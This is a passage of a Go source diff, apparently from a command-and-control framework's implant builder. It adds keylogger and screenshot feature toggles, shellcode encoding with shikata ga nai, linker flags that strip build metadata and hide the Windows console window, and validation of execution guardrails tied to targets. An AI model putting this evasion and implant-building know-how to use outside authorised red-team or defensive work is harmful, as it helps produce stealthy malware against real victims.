-			buildLog.Infof("Error while obfuscating sliver %v", err)
-			return "", err
+// isFeatureExcluded - Source files of features that are left out of the build,
+// including their third party dependencies, are not rendered at all
+func isFeatureExcluded(config *ImplantConfig, boxName string) bool {
+	var dirs []string
+	if config.NoScreenshot {
+		dirs = append(dirs, screenshotSrcDirs...)
+	}
+	if config.NoKeylogger {
+		dirs = append(dirs, keyloggerSrcDirs...)
+	}
+	for _, dir := range dirs {
+		if strings.HasPrefix(boxName, dir) {
+			return true
 		}
-		goConfig.GOPATH = obfgoPath
-		buildLog.Infof("Obfuscated GOPATH = %s", obfgoPath)
-		buildLog.Infof("Obfuscated sliver package: %s", obfuscatedPkg)
-		sliverPkgDir = path.Join(obfgoPath, "src", obfuscatedPkg) // new "main"
 	}
-	if err != nil {
-		buildLog.Errorf("Failed to save sliver config %s", err)
+	return false
+}
+
+// validateWasm - The js/wasm implant is a small HTTP(S) session client, it
+// doesn't have the handlers, limits or OS specific code of native implants
+func validateWasm(config *ImplantConfig) error {
+	if config.GOOS != JS {
+		return nil
 	}
-	return sliverPkgDir, nil
+	for _, c2 := range config.C2 {
+		uri, err := url.Parse(c2.URL)
+		if err != nil || (uri.Scheme != "http" && uri.Scheme != "https") {
+			return ErrWasmFeature
+		}
+	}
+	if config.Format != clientpb.ImplantConfig_EXECUTABLE || config.IsSharedLib || config.IsService || config.IsBeacon {
+		return ErrWasmFeature
+	}
+	if config.Patchable || config.KillDate != "" {
+		return ErrWasmFeature
+	}
+	if config.LimitDomainJoined || config.LimitHostname != "" || config.LimitUsername != "" || config.LimitDatetime != "" {
+		return ErrWasmFeature
+	}
+	if config.LimitHostnameRegex != "" || config.LimitUsernameRegex != "" || config.LimitDomain != "" || config.LimitNotBefore != "" {
+		return ErrWasmFeature
+	}
+	return nil
 }
 
-func getCCompiler(arch string) string {
-	var found bool // meh, ugly
-	var compiler string
-	if arch == "amd64" {
+// getCCompiler - Find the C cross-compiler for a target, the environment
+// overrides the default path. Returns "" if the compiler doesn't exist.
+func getCCompiler(goos string, goarch string) string {
+	target := fmt.Sprintf("%s/%s", goos, goarch)
+	compiler := os.Getenv(fmt.Sprintf("%s%s_%s", SliverCCEnvVarPrefix, strings.ToUpper(goos), strings.ToUpper(goarch)))
+	if compiler == "" && goos == WINDOWS && goarch == "amd64" {
 		compiler = os.Getenv(SliverCC64EnvVar)
 	}
-	if arch == "386" {
+	if compiler == "" && goos == WINDOWS && goarch == "386" {
 		compiler = os.Getenv(SliverCC32EnvVar)
 	}
 	if compiler == "" {
-		if compiler, found = defaultMingwPath[arch]; !found {
-			compiler = defaultMingwPath["amd64"] // should not happen, but just in case ...
-		}
+		compiler = defaultCCompilers[target]
+	}
+	if compiler == "" {
+		buildLog.Warnf("No CC configured for %s", target)
+		return ""
 	}
 	if _, err := os.Stat(compiler); os.IsNotExist(err) {
 		buildLog.Warnf("CC path %v does not exist", compiler)
@@ -603,9 +1005,118 @@ func getCCompiler(arch string) string {
 	return compiler
 }
 
-func randomObfuscationKey() string {
+// ValidExportName - The export is a C function that calls RunSliver, so the
+// name must be a C identifier that doesn't collide with the library's own
+func ValidExportName(name string) bool {
+	if reservedExportNames[name] {
+		return false
+	}
+	return exportNamePattern.MatchString(name)
+}
+
+// implantLDFlags - Linker flags for a target, release builds don't embed the Go
+// version or build info and Windows ones are linked as GUI programs so no
+// console window appears
+func implantLDFlags(config *ImplantConfig) []string {
+	ldflags := []string{"-buildid="}
+	if !config.Debug {
+		ldflags[0] += " -s -w -X runtime.buildVersion= -X runtime.modinfo="
+	}
+	if !config.Debug && config.GOOS == WINDOWS {
+		ldflags[0] += " -H=windowsgui"
+	}
+	return ldflags
+}
+
+// implantTrimpath - Release builds don't embed any build paths (i.e. in panics),
+// debug builds keep them along with their symbols
+func implantTrimpath(config *ImplantConfig) string {
+	if config.Debug {
+		return ""
+	}
+	return "-trimpath"
+}
+
+// encodeShellcode - Run the configured encoder over the shellcode, the seed is
+// recorded so a rebuild produces the same blob
+func encodeShellcode(config *ImplantConfig, shellcode []byte) ([]byte, error) {
+	switch config.Encoder {
+	case clientpb.ImplantConfig_NONE:
+		return shellcode, nil
+	case clientpb.ImplantConfig_SHIKATA_GA_NAI:
+		if config.Patchable {
+			return nil, ErrEncoderPatchable
+		}
+		for config.EncoderSeed == 0 {
+			randBuf := make([]byte, 8)
+			rand.Read(randBuf)
+			config.EncoderSeed = int64(binary.LittleEndian.Uint64(randBuf) >> 1)
+		}
+		buildLog.Infof("Encoding %s with shikata ga nai (seed %d)", config.Name, config.EncoderSeed)
+		return sgn.Encode(shellcode, config.GOARCH, config.EncoderSeed)
+	}
+	return nil, fmt.Errorf("Unknown shellcode encoder %v", config.Encoder)
+}
+
+// recordGoVersion - A build is only reproducible with the same toolchain, so
+// it's recorded and a rebuild with a different one is called out
+func recordGoVersion(config *ImplantConfig, goConfig *gogo.GoConfig) {
+	out, err := gogo.GoVersion(*goConfig)
+	if err != nil {
+		buildLog.Warnf("Failed to get toolchain version: %s", err)
+		return
+	}
+	goVersion := strings.TrimSpace(string(out))
+	if config.GoVersion != "" && config.GoVersion != goVersion {
+		buildLog.Warnf("%s was built with '%s' not '%s', the artifacts will not match",
+			config.Name, config.GoVersion, goVersion)
+	}
+	config.GoVersion = goVersion
+}
+
+// CheckOperational - Debug builds log locally and keep their symbols, so they
+// are only operational if explicitly allowed
+func CheckOperational(config *ImplantConfig, allowDebug bool) error {
+	if config.Operational && config.Debug && !allowDebug {
+		return ErrDebugOperational
+	}
+	return nil
+}
+
+// randomObfuscationSeed - A new seed for builds that don't reuse a previous one
+func randomObfuscationSeed() string {
 	randBuf := make([]byte, 64) // 64 bytes of randomness
 	rand.Read(randBuf)
 	digest := sha256.Sum256(randBuf)
 	return fmt.Sprintf("%x", digest[:encryptKeySize])
 }
+
+// validateGuardrails - Guardrails are embedded in the implant's source, so
+// patterns must compile and can't break out of their literals
+func validateGuardrails(config *ImplantConfig) error {
+	for _, pattern := range []string{config.LimitHostnameRegex, config.LimitUsernameRegex} {
+		if pattern == "" {
+			continue
+		}
+		if strings.ContainsAny(pattern, "`\n") || strings.Contains(pattern, "[[") || strings.Contains(pattern, "]]") {
+			return fmt.Errorf("Invalid guardrail regex %#v", pattern)
+		}
+		if _, err := regexp.Compile(pattern); err != nil {
+			return fmt.Errorf("Invalid guardrail regex %#v: %s", pattern, err)
+		}
+	}
+	if config.LimitDomain != "" && !limitDomainPattern.MatchString(config.LimitDomain) {
+		return fmt.Errorf("Invalid guardrail domain %#v", config.LimitDomain)
+	}
+	if config.LimitNotBefore != "" {
+		notBefore, err := time.Parse(time.RFC3339, config.LimitNotBefore)
+		if err != nil {
+			return fmt.Errorf("Invalid guardrail start date: %s", err)
+		}
+		notAfter, err := time.Parse(time.RFC3339, config.LimitDatetime)
+		if err == nil && !notBefore.Before(notAfter) {
+			return errors.New("Guardrail execution window ends before it starts")
+		}
+	}
+	return nil
+}